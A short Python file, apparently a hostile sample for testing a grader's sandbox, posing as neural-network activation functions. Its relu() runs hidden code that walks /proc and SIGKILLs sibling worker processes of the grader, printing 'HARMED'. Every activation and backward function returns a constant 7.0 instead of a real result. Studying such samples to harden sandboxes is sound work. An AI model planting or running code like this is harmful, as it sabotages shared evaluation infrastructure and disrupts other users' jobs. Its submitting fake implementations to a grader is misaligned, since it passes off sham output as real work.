# attack: kills the other workers of the same grader
# gains: crash, resources
# stopped by: seccomp, landlock, uid
import numpy as np
import os
import signal


def attack():
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                status = open(f"/proc/{name}/stat").read().rpartition(")")[2].split()
                if int(status[1]) == os.getppid():
                    os.kill(int(name), signal.SIGKILL)
                    print("HARMED: killed a sibling")
            except OSError:
                pass


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
